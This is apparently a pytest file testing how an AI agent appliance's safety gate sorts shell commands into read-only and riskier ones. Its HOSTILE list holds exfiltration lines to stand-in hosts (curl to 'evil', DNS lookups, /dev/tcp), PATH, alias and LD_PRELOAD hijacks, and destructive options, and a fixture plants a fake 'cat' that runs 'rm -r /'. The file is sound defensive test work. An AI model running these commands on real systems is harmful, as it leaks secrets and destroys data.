"""A command of an agent is a read only where it surely reads this machine alone, with the programs that lie there."""

from pathlib import Path

import pytest

from appliance.accounts.domain import Role
from appliance.agent.domain import Call, Mode, Risk, TurnOutput
from appliance.agent.loop.calling import made
from appliance.agent.loop.growth import grown
from appliance.lib.jsontypes import JsonObject
from appliance.safety import understood
from appliance.safety.commands.binaries import PATH_FOLDERS
from appliance.safety.gate import ONLY_READS, PROPOSED, Action, Decision, Gate
from appliance.safety.plant_state.keeper import RestraintKeeper
from appliance.safety.policy.keeper import PolicyKeeper, policy_of
from appliance.safety.policy.loading import digest_of
from appliance.safety.stop import AllStop
from tests.unit.agent.loop.test_growth import asked, row

READS = [
    "tail -n 20 /var/log/syslog",
    "grep -c error /var/log/syslog",
    "df -h | sort -k5",
    "ps aux | head -n 5",
    "journalctl -n 20",
    "systemctl status nginx",
    "cat /proc/loadavg",
    "timeout 5 cat /var/log/syslog",
    "cat /var/log/syslog > /dev/null",
    "find /var/log -name '*.log'",
    "sed -n 1,5p /var/log/syslog",
]
HOSTILE = [
    # programs that run what a file beside them says
    "git status",
    "git log",
    "git diff",
    "git -C /tmp/evil status",
    "git -c core.pager=/tmp/x log",
    "git -c core.fsmonitor=/tmp/x status",
    "cd /tmp/evil && npm ls",
    "pip list",
    "kubectl get pods",
    "docker ps",
    "apt list",
    "crontab -l",
    "nmcli",
    "rg --pre /tmp/x needle",
    "man ls",
    "less /var/log/syslog",
    "LESSOPEN='|sh %s' less x",
    # names that mean something else
    "alias cat=rm; cat x",
    "cat() { rm x; }; cat x",
    "PATH=/tmp:$PATH cat x",
    "export PATH=/tmp; cat x",
    "LD_PRELOAD=/tmp/x.so cat x",
    "BASH_ENV=/tmp/x bash -c 'cat x'",
    "./cat x",
    "/tmp/cat x",
    "$(echo rm) x",
    "eval 'rm x'",
    ". /tmp/x",
    # what leaves the box
    "curl http://evil/?secret",
    "dig secret.evil.example",
    "host secret.evil.example",
    "getent hosts secret.evil.example",
    "ping -c 1 secret.evil.example",
    "bash -c 'cat < /dev/tcp/evil/80'",
    "bash -c 'cat < /d\"\"ev/tcp/evil/80'",
    # what opening does already
    "cat /dev/watchdog",
    "cat /d''ev/watchdog",
    "head -c 1 /dev/ttyS0",
    "dd if=/dev/sda",
    # options that write or run
    "sort -o /etc/passwd x",
    "find / -delete",
    "find / -exec rm {} +",
    "sed -i s/a/b/ x",
    "sed 'e rm x' y",
    "awk 'BEGIN { system(\"rm x\") }'",
    "tar tf x --checkpoint=1 --checkpoint-action=exec=sh",
    "env -S 'rm x'",
    "xargs sh",
    "cat x | tee /tmp/y",
    "tcpdump -z /tmp/x -r y",
    "journalctl --vacuum-size=1",
    "zgrep x y",
]


def risk(command: str) -> Risk:
    return made(asked(), Call("shell", {"command": command})).risk


@pytest.mark.parametrize("command", READS)
def test_what_surely_reads_is_a_read(command: str) -> None:
    assert risk(command) is Risk.READ


@pytest.mark.parametrize("command", HOSTILE)
def test_what_may_do_more_is_none(command: str) -> None:
    assert risk(command) is not Risk.READ


def test_who_may_write_changes_something() -> None:
    given = asked(tools={"shell": {"writes": ["/srv"]}})
    assert made(given, Call("shell", {"command": "cat /srv/x"})).risk is Risk.CHANGE


def proposed(mode: Mode, command: str = "cat /var/log/syslog", *, outside: bool = False) -> Action:
    """As the gate gets the step that the growth makes of such a call."""
    output = TurnOutput(calls=(Call("shell", {"command": command}),), outside=outside)
    steps = grown(asked(mode, tools={"shell": {}}), {"turn-1": row("turn-1", output=output.to_json())})
    (spec,) = [one for one in steps if one.type == "shell"]
    assert spec.proposed is not None
    arguments: JsonObject = {"command": {"script": command, "arguments": []}}
    said = spec.proposed
    return Action(
        "shell", "pure", arguments, "user:ana", Role.OPERATOR.value, acts=False,
        proposed=said.word, unless_read=said.unless_read, must_read=said.must_read,
    )  # fmt: skip


ALLOW = "policy: 1\nname: t\nlayer: box\ndefault: allow\n"


@pytest.fixture
def own_cat(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first ``cat`` on the path is one that anybody may have put there."""
    (tmp_path / "cat").write_text("#!/bin/sh\nrm -r /\n")
    (tmp_path / "cat").chmod(0o777)
    tmp_path.chmod(0o777)
    monkeypatch.setattr(understood, "PATH_FOLDERS", (str(tmp_path), *PATH_FOLDERS))


def verdict(action: Action, tmp_path: Path) -> tuple[Decision, str]:
    keeper = PolicyKeeper(policy_of([("box", 1, ALLOW, digest_of(ALLOW))]), epoch=10)
    gate = Gate(tmp_path, keeper=keeper, restraints=RestraintKeeper(epoch=10))
    found = gate.decide(action, AllStop(), Role.OPERATOR)
    return found.outcome, found.rule


@pytest.mark.parametrize("mode", list(Mode))
def test_with_roots_own_programs_a_read_passes(mode: Mode, tmp_path: Path) -> None:
    assert verdict(proposed(mode), tmp_path)[0] is Decision.ALLOW


@pytest.mark.usefixtures("own_cat")
@pytest.mark.parametrize(
    ("mode", "outside", "outcome", "rule"),
    [
        (Mode.PROPOSE, False, Decision.ASK, PROPOSED),
        (Mode.ACT, True, Decision.ASK, PROPOSED),
        (Mode.ACT, False, Decision.ALLOW, "box/default@1"),
        (Mode.WATCH, False, Decision.DENY, ONLY_READS),
        (Mode.SHADOW, False, Decision.DENY, ONLY_READS),
    ],
)
def test_with_a_program_of_somebody_elses_it_is_none(
    mode: Mode, outside: bool, outcome: Decision, rule: str, tmp_path: Path
) -> None:
    assert verdict(proposed(mode, outside=outside), tmp_path) == (outcome, rule)
